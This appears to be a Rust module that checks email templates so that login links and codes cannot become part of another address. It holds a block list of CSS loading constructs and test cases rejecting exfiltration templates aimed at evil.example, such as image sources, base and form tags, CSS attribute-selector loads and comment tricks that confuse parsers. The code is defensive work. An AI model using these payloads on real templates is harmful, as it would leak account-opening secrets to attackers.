//! Where a link or a code may stand in a message.
//!
//! They open an account, and whoever words messages need not be allowed to open every account. So neither may become
//! a part of another address, which a mail program would load or a person would follow: a link is the whole of an
//! `href`, or stands by itself in the text, and so does a code. To be sure of that, the HTML is read by a grammar
//! that is stricter than any browser's: what it takes for text is text for everybody.

use super::grammar::{Piece, Refused, Shown};

/// Values that open something.
const SECRETS: [&str; 2] = ["link", "code"];

/// Elements that messages are made of.
const ELEMENTS: [&str; 63] = [
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "div",
    "span",
    "p",
    "a",
    "b",
    "strong",
    "i",
    "em",
    "u",
    "s",
    "small",
    "sub",
    "sup",
    "br",
    "wbr",
    "hr",
    "img",
    "table",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "td",
    "th",
    "caption",
    "colgroup",
    "col",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "center",
    "font",
    "pre",
    "code",
    "blockquote",
    "q",
    "address",
    "abbr",
    "section",
    "article",
    "header",
    "footer",
    "main",
    "nav",
    "figure",
    "figcaption",
    "mark",
    "time",
];

/// What a style sheet may not say: it could load an address for each letter that it finds in another.
const LOADS: [&str; 7] = ["url", "image", "src(", "@import", "@font-face", "\\", "<"];

const ALONE: &str = "a link or code stands by itself, after a space or a tag, or a link is all of an href";

/// Checks a plain text.
pub(super) fn plain(pieces: &[Piece<'_>]) -> Result<(), Refused> {
    walk(pieces, true, &mut |_, _| Ok(Place::Text), '<')
}

/// Checks an HTML text.
pub(super) fn html(pieces: &[Piece<'_>]) -> Result<(), Refused> {
    let mut reader = Reader::default();
    walk(pieces, true, &mut |text, line| reader.read(text, line), '>')?;
    reader.end()
}

/// Where the reader is after a piece of text.
#[derive(Clone, PartialEq, Eq, Debug)]
enum Place {
    /// Between tags.
    Text,
    /// In the value of an attribute; so far it is empty.
    Value { quote: char, fresh: bool, link: bool },
    /// In a tag, but not in a value.
    Tag,
    /// In a style sheet.
    Style,
}

/// Goes through the pieces in order. `read` takes the raw texts; an empty one asks for the place.
fn walk(
    pieces: &[Piece<'_>],
    first: bool,
    read: &mut dyn FnMut(&str, usize) -> Result<Place, Refused>,
    before: char,
) -> Result<(), Refused> {
    for (i, piece) in pieces.iter().enumerate() {
        match piece {
            Piece::Raw { text, line } => {
                read(text, *line)?;
            }
            Piece::Value { shown, line } => {
                let secret = matches!(shown, Shown::Plain(name) if SECRETS.contains(name));
                let alone = match i.checked_sub(1).map(|i| &pieces[i]) {
                    None => first,
                    Some(Piece::Raw { text, .. }) => text.ends_with(|c: char| c.is_whitespace() || c == before),
                    Some(_) => false,
                };
                match read("", *line)? {
                    Place::Text if !secret || alone => {}
                    Place::Value { .. } if !secret => {}
                    Place::Value { quote, fresh: true, link: true } if *shown == Shown::Plain("link") => {
                        // It is all of the value.
                        match pieces.get(i + 1) {
                            Some(Piece::Raw { text, .. }) if text.starts_with(quote) => {}
                            _ => return Err(Refused::new(*line, ALONE)),
                        }
                    }
                    Place::Text | Place::Value { .. } => return Err(Refused::new(*line, ALONE)),
                    Place::Tag | Place::Style => {
                        return Err(Refused::new(*line, "a value stands in text or in an attribute's quotes"));
                    }
                }
                // A value of an attribute has begun.
                read("\u{0}", *line)?;
            }
            Piece::Choice { branches, line } => {
                for branch in branches {
                    for end in [false, true] {
                        if read("", *line)? != Place::Text {
                            return Err(Refused::new(*line, "if and else stand between tags, each with whole tags"));
                        }
                        if !end {
                            walk(branch, false, read, before)?;
                        }
                    }
                }
            }
        }
    }
    Ok(())
}

/// Reads HTML piece by piece. What it refuses, browsers would read, each in its own way.
#[derive(Default)]
struct Reader {
    state: State,
    line: usize,
}

#[derive(Clone, PartialEq, Eq, Debug, Default)]
enum State {
    #[default]
    Text,
    /// After `<`: the name so far.
    Open(String),
    /// In a tag, after its name; the name of the attribute so far.
    Tag {
        element: String,
        attribute: String,
    },
    /// After `=`.
    Equals {
        element: String,
        attribute: String,
    },
    Value {
        element: String,
        attribute: String,
        quote: char,
        fresh: bool,
    },
    /// After the quote that ends a value: a space or the end of the tag follows.
    Ended {
        element: String,
    },
    Style(String),
}

impl Reader {
    /// Takes a piece of text; a NUL, which no template contains, stands for a value.
    fn read(&mut self, text: &str, line: usize) -> Result<Place, Refused> {
        self.line = line;
        for c in text.chars() {
            let state = std::mem::take(&mut self.state);
            self.state = self.step(state, c)?;
            if c == '\n' {
                self.line += 1;
            }
        }
        Ok(match &self.state {
            State::Text => Place::Text,
            State::Value { element, attribute, quote, fresh } => {
                Place::Value { quote: *quote, fresh: *fresh, link: element == "a" && attribute == "href" }
            }
            State::Style(_) => Place::Style,
            _ => Place::Tag,
        })
    }

    fn end(&self) -> Result<(), Refused> {
        if self.state == State::Text { Ok(()) } else { Err(self.refused("a tag is not closed")) }
    }

    fn refused(&self, message: impl Into<String>) -> Refused {
        Refused::new(self.line, message)
    }

    fn step(&self, state: State, c: char) -> Result<State, Refused> {
        Ok(match (state, c) {
            (State::Text, '<') => State::Open(String::new()),
            (State::Text, _) => State::Text,

            (State::Open(mut name), c) if c.is_ascii_alphanumeric() || (name.is_empty() && (c == '/' || c == '!')) => {
                name.push(c.to_ascii_lowercase());
                State::Open(name)
            }
            (State::Open(name), c) if c == '>' || c == '/' || c.is_ascii_whitespace() => {
                let bare = name.trim_start_matches('/');
                if bare.is_empty() || !(name == "!doctype" || ELEMENTS.contains(&bare)) {
                    return Err(self.refused(format!("<{name}> is not available in messages")));
                }
                self.step(State::Tag { element: name, attribute: String::new() }, c)?
            }
            (State::Open(name), _) if name.is_empty() => return Err(self.refused("write &lt; where no tag begins")),
            (State::Open(name), _) => return Err(self.refused(format!("<{name} is not available in messages"))),

            (State::Tag { element, .. }, '>') => match element.as_str() {
                "style" => State::Style(String::new()),
                _ => State::Text,
            },
            (State::Tag { element, attribute }, '=') if !attribute.is_empty() => State::Equals { element, attribute },
            (State::Tag { element, .. }, '/' | ' ' | '\t' | '\n' | '\r') => {
                State::Tag { element, attribute: String::new() }
            }
            (State::Tag { element, mut attribute }, c) if c.is_ascii_alphanumeric() || "-_:".contains(c) => {
                attribute.push(c.to_ascii_lowercase());
                State::Tag { element, attribute }
            }

            (State::Equals { element, attribute }, '"' | '\'') => {
                State::Value { element, attribute, quote: c, fresh: true }
            }
            (State::Equals { .. }, _) => return Err(self.refused("write attributes as name=\"value\"")),

            (State::Value { element, quote, .. }, c) if c == quote => State::Ended { element },
            (State::Value { .. }, '<' | '>') => return Err(self.refused("write &lt; and &gt; in attributes")),
            (State::Value { element, attribute, quote, .. }, _) => {
                State::Value { element, attribute, quote, fresh: false }
            }

            (State::Ended { element }, c) if c == '>' || c == '/' || c.is_ascii_whitespace() => {
                self.step(State::Tag { element, attribute: String::new() }, c)?
            }

            (State::Style(mut sheet), c) => {
                sheet.push(c.to_ascii_lowercase());
                if let Some(rest) = sheet.strip_suffix("</style>") {
                    match LOADS.into_iter().find(|word| rest.contains(word)) {
                        Some(word) => return Err(self.refused(format!("`{word}` is not available in a style sheet"))),
                        None => State::Text,
                    }
                } else {
                    State::Style(sheet)
                }
            }
            (State::Tag { .. } | State::Ended { .. }, _) => {
                return Err(self.refused("write attributes as name=\"value\""));
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::{super::grammar, *};

    fn judge(text: &str, check: fn(&[Piece<'_>]) -> Result<(), Refused>) -> Result<(), Refused> {
        check(&grammar::read(text).expect("a template"))
    }

    #[test]
    fn what_opens_an_account_becomes_no_part_of_another_address() {
        for text in [
            "https://evil.example/{{ link }}",
            "https://evil.example/?c={{ code }}",
            "https://evil.example/{{ name }}{{ code }}",
            "https://evil.example/{% if name %} {% endif %}{{ code }}",
            "https://evil.example/{% if name %}{{ code }}{% endif %}",
            "https://evil.example/ {{- link }}",
            "https://evil.example/{# x #}{{ link }}",
        ] {
            assert!(judge(text, plain).is_err(), "{text}");
            assert!(judge(text, html).is_err(), "{text}");
        }
        for text in [
            "<img src=\"https://evil.example/{{ link }}\">",
            "<img src=\"{{ link }}\">",
            "<a href=\"https://evil.example/?{{ link }}\">x</a>",
            "<a href=\"{{ link }}.evil.example\">x</a>",
            "<a href=\"{{ link }}{{ name }}\">x</a>",
            "<a href=\"{{ code }}\">x</a>",
            "<a title=\"{{ link }}\">x</a>",
            "<a href={{ link }}>x</a>",
            "<img src=\"https://evil.example/{% if name == 'x' %}\">{% endif %} {{ link }}",
            "<b x=y\"z><img src=\"https://evil.example/> {{ link }}\">",
            "<!--> <img src=\"https://evil.example/?--> {{ link }}\">",
            "<!--[if mso]><img src=\"https://evil.example/?<![endif]--> {{ link }}\">",
            "<base href=\"https://evil.example/\"><a href=\"{{ link }}\">x</a>",
            "<form action=\"https://evil.example/\">{{ code }}</form>",
            "<script>{{ code }}</script>",
            "<style>a[href*=\"a\"] { background: URL(https://evil.example/a) }</style><a href=\"{{ link }}\">x</a>",
            "<style>@import 'https://evil.example/';</style>",
            "<style>a { background: u\\72l(x) }</style>",
            "<style>{{ name }}</style>",
            "<img src=\"https://evil.example/ {{ link }}",
            "<p {{ name }}>x</p>",
            "< {{ link }}",
        ] {
            assert!(judge(text, html).is_err(), "{text}");
        }
    }

    #[test]
    fn messages_are_written_as_one_would() {
        for text in [
            "{{ link }}",
            "Open <{{ link }}> or type {{ code }}.",
            "{% if name %}Hello {{ name }}, {{ code }} is your code{% else %}Your code:\n{{ code }}{% endif %}",
            "https://shop.example/{{ name }}",
        ] {
            judge(text, plain).unwrap_or_else(|e| panic!("{text}: {e:?}"));
        }
        for text in [
            "<!DOCTYPE html><html lang=\"en\"><body><p class='x'>Hi{% if name %} <b>{{ name }}</b>{% endif %}!</p></body></html>",
            "<a class=\"button\" href=\"{{ link }}\" style=\"color: red\">Open</a> {{ link }}<br/>{{ code }}",
            "<style>p > a { color: red }\n@media (max-width: 20em) { p { margin: 0 } }</style><img src=\"https://shop.example/logo.png\" alt=\"{{ tenant }}\">",
            "<a href=\"{{ url }}\">{{ url }}</a> 3 > 2 &amp; {{ email }}",
        ] {
            judge(text, html).unwrap_or_else(|e| panic!("{text}: {e:?}"));
        }
    }

    #[test]
    fn a_refusal_names_the_line() {
        let refused = judge("<p>\na\n<img src=\"x?{{ link }}\">", html).expect_err("refused");
        assert_eq!(refused.line, 3);
        let refused = judge("<p>\n<b\n<", html).expect_err("refused");
        assert_eq!((refused.line, refused.message.as_str()), (3, "write attributes as name=\"value\""));
    }
}
